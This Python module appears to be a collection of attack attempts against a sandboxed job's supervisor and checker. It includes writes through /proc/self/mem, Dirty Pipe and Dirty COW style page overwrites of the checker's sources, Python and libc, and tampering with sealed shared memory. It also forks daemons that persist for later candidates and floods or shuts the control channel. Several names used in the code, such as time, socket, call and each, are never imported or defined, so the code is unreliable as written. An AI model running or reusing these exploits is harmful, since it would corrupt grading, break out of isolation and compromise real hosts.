"""Attempts at what a job shares with the supervisor (two memories, the control channel) and with everybody (pages of
files that are mapped read-only)."""

import ctypes
import fcntl
import mmap
import os
import threading

F_ADD_SEALS, F_GET_SEALS = 1033, 1034
SEAL_SEAL, SEAL_SHRINK, SEAL_GROW, SEAL_WRITE, SEAL_FUTURE_WRITE = 1, 2, 4, 8, 16


def _descriptors(word):
    """Numbers of open descriptors whose name in /proc holds a word."""
    found = []
    for number in range(3, 64):
        try:
            if word in os.readlink(f"/proc/self/fd/{number}"):
                found.append(number)
        except OSError:
            pass
    return found


def _memories(sealed):
    return [fd for fd in _descriptors("memfd") if bool(fcntl.fcntl(fd, F_GET_SEALS) & SEAL_WRITE) == sealed]


def _mappings(word, rights="r"):
    with open("/proc/self/maps", encoding="ascii", errors="replace") as maps:
        lines = [line.split() for line in maps]
    return [int(line[0].split("-")[0], 16) for line in lines if word in line[-1] and line[1].startswith(rights)]


def _through_proc_mem(address, data=b"escape"):
    """The way debuggers write into pages that are mapped read-only."""
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        return memory.write(data)


def write_into_the_visible_memory():
    """Inputs, kept for the next candidates of this task."""
    said = []
    for fd in _memories(sealed=True):
        again = f"/proc/self/fd/{fd}"
        actions = {
            "pwrite": lambda fd=fd: os.pwrite(fd, b"escape" * 1000, 0),
            "truncate": lambda fd=fd: os.ftruncate(fd, 0),
            "punch": lambda fd=fd: call(285, fd, 3, 0, 4096),
            "map": lambda fd=fd: mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ),
            "open": lambda again=again: os.pwrite(os.open(again, os.O_RDWR), b"escape" * 1000, 0),
            "open truncated": lambda again=again: os.open(again, os.O_RDWR | os.O_TRUNC),
            "chmod": lambda fd=fd: os.fchmod(fd, 0o777),
            "splice": lambda fd=fd: _splice_into(fd),
        }
        said.append(each(**actions))
    for address in _mappings("memfd", "r-"):
        LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        said.append(f"mprotect {LIBC.mprotect(address, 4096, 3)}")
        said.append(each(proc_mem=lambda address=address: _through_proc_mem(address, b"escape" * 1000)))
    return said


def _splice_into(fd):
    ends = os.pipe()
    os.write(ends[1], b"escape")
    return os.splice(ends[0], fd, 6, offset_dst=0)


def shrink_the_memory_of_outputs():
    """The supervisor has it mapped: reading behind its end would be its death."""
    actions = {}
    for fd in _memories(sealed=False):
        actions[f"shrink {fd}"] = lambda fd=fd: os.ftruncate(fd, 0)
        actions[f"grow {fd}"] = lambda fd=fd: os.ftruncate(fd, 1 << 50)
        actions[f"collapse {fd}"] = lambda fd=fd: call(285, fd, 8, 0, 4096)
        actions[f"insert {fd}"] = lambda fd=fd: call(285, fd, 0x20, 0, 4096)
        actions[f"truncate {fd}"] = lambda fd=fd: os.open(f"/proc/self/fd/{fd}", os.O_RDWR | os.O_TRUNC)
    return each(**actions)


def seal_the_memory_of_outputs():
    """Seals of one's own, before the supervisor puts its."""
    actions = {}
    for fd in _memories(sealed=False):
        for name, seal in (("future", SEAL_FUTURE_WRITE), ("write", SEAL_WRITE), ("seal", SEAL_SEAL)):
            actions[f"{name} {fd}"] = lambda fd=fd, seal=seal: fcntl.fcntl(fd, F_ADD_SEALS, seal)
    return each(**actions)


def punch_holes_while_it_is_compared():
    """Pages that come and go under the reader."""
    fds = _memories(sealed=False)

    def punch():
        end = time.monotonic() + 3
        while time.monotonic() < end:
            for fd in fds:
                try:
                    call(285, fd, 3, 0, 1 << 24)
                except OSError:
                    return

    threading.Thread(target=punch, daemon=True).start()
    return f"punching {fds}"


def a_child_that_keeps_the_memory():
    """Daemons with everything shared open and mapped, for the next candidate."""
    fds = _descriptors("memfd") + _descriptors("socket")
    if os.fork() != 0:
        return f"left with {fds}"
    try:
        os.setsid()
        areas = [mmap.mmap(fd, 0) for fd in _memories(sealed=False)]
        while True:
            for area in areas:
                area[:6] = b"escape"
            time.sleep(0.01)
    finally:
        time.sleep(1000)


def write_to_pages_of_read_only_files():
    """Pages of the checker's sources and of Python are shared with every worker: by a pipe that holds one
    (CVE-2022-0847), by a private mapping and a race (CVE-2016-5195), by the debugger's way."""
    import runner

    said = []
    for path in (runner.__file__, "/usr/bin/python3", torch.__file__):
        fd = os.open(path, os.O_RDONLY)
        said.append(each(pipe=lambda fd=fd: _dirty_pipe(fd), mapping=lambda fd=fd: _dirty_cow(fd)))
        with open(path, "rb") as file:
            said.append("escape" in file.read(64).decode("latin-1"))
    libraries = _mappings("libc.so", "r-")
    return said + [each(proc_mem=lambda: _through_proc_mem(libraries[0] + 16, b"\0"))]


def _dirty_pipe(fd):
    ends = os.pipe()
    size = fcntl.fcntl(ends[1], 1032)
    for begin in range(0, size, 4096):
        os.write(ends[1], bytes(4096))
        os.read(ends[0], 4096)
    os.splice(fd, ends[1], 1, offset_src=3)
    return os.write(ends[1], b"escape")


def _dirty_cow(fd):
    area = mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    address = ctypes.c_void_p()
    for candidate in _mappings(os.readlink(f"/proc/self/fd/{fd}"), "r-"):
        address = candidate
    end = time.monotonic() + 0.2

    def forget():
        while time.monotonic() < end:
            area.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=forget)
    thread.start()
    while time.monotonic() < end:
        _through_proc_mem(address)
    thread.join()
    return "raced"


def flood_the_control_channel():
    """Whatever the supervisor reads there, as much as goes."""
    import json

    said = 0
    texts = [b"\0" * 1000, b"{" * 100000, b'"' + b"x" * 100000 + b'"', b"[" * 60000 + b"]" * 60000, b"{}", b""]
    texts += [json.dumps({name: 10**400}).encode() for name in ("call", "outputs", "offset", "phase", "done")]
    for fd in _descriptors("socket"):
        os.set_blocking(fd, False)
        end = time.monotonic() + 1
        while time.monotonic() < end:
            try:
                os.write(fd, texts[said % len(texts)])
                said += 1
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        os.set_blocking(fd, True)
    return f"{said} messages"


def close_the_channel_and_stay():
    for fd in _descriptors("socket"):
        os.close(fd)
    time.sleep(1000)


def shut_the_channel_down_and_stay():
    """Both directions, by a call on the socket itself, so that the supervisor's copy of this end is shut as well."""
    for fd in _descriptors("socket"):
        socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
    time.sleep(1000)
